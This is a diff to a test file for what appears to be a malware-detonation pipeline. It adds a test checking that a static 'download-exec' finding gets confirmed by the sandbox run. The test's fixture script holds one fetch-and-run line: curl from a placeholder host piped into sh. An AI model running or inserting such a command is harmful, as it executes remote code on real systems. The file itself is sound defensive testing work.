@@ -3,6 +3,8 @@ import { GetObjectCommand } from '@aws-sdk/client-s3';
 import { DetonationReportSchema } from '../lambdas/core/contracts/detonation-report';
 import { DETAIL_TYPE_VERDICT, SampleVerdictDetailSchema } from '../lambdas/core/contracts/pipeline';
 import { LocalPipeline } from '../local/runtime';
+import { storedHtmlReport, verdictDocument } from '../cli/local-analysis';
+import { formatOutcomes } from '../cli/format';
 
 describe('the detonation engine through the local state machine', () => {
   let pipeline: LocalPipeline;
@@ -22,8 +24,9 @@ describe('the detonation engine through the local state machine', () => {
       expect.arrayContaining(['EngineKind', 'PrepareDetonation', 'RunDetonation', 'CollectDetonation']),
     );
     const detail = SampleVerdictDetailSchema.parse(pipeline.events(DETAIL_TYPE_VERDICT).at(-1)?.detail);
-    const engine = detail.engines[0];
+    const engine = detail.engines.find((e) => e.engine === 'detonation');
     expect(engine).toMatchObject({ engine: 'detonation', status: 'completed' });
+    expect(detail.engines[0]).toMatchObject({ engine: 'static', status: 'completed' });
 
     // The agent ran with the configuration as written: 256 (MiB) and a 20 s deadline.
     const deps = pipeline.deps('CollectDetonationFn');
@@ -39,5 +42,30 @@ describe('the detonation engine through the local state machine', () => {
     const html = await (await fetch(detail.reportUrl ?? '')).text();
     expect(html).toContain('Content-Security-Policy');
     expect(html).toContain(detail.sha256);
+  }, 120_000);
+
+  it('shows which static findings the detonation confirmed: a download URL in the script that the run looked up', async () => {
+    const script = [
+      '#!/bin/sh',
+      '# sandtrap test: fetch a second stage from a name that only the fake network answers',
+      'curl -fsS http://stage2.sandtrap-test.example/next.sh | sh',
+      '',
+    ].join('\n');
+    const run = await pipeline.run(await pipeline.upload({ key: 'correlation/dropper.sh', body: script }));
+    expect(run.status).toBe('SUCCEEDED');
+    const detail = SampleVerdictDetailSchema.parse(pipeline.events(DETAIL_TYPE_VERDICT).at(-1)?.detail);
+    expect(detail.engines.map((e) => [e.engine, e.status])).toEqual([
+      ['static', 'completed'],
+      ['detonation', 'completed'],
+    ]);
+    const document = await verdictDocument(pipeline, detail);
+    const downloadExec = document.static?.findings.find((f) => f.id === 'script.download-exec');
+    expect(downloadExec).toBeDefined();
+    const confirmed = document.static?.confirmed?.find((c) => c.findingId === 'script.download-exec');
+    expect(confirmed?.how.join(' ')).toMatch(/stage2\.sandtrap-test\.example/);
+    // The stored HTML report marks it, and the CLI prints it.
+    const html = await storedHtmlReport(pipeline, detail.sha256);
+    expect(html).toContain('Confirmed by the detonation:');
+    expect(formatOutcomes([{ file: 'dropper.sh', ok: true, document }])).toContain('confirmed by the detonation:');
   }, 120_000);
 });
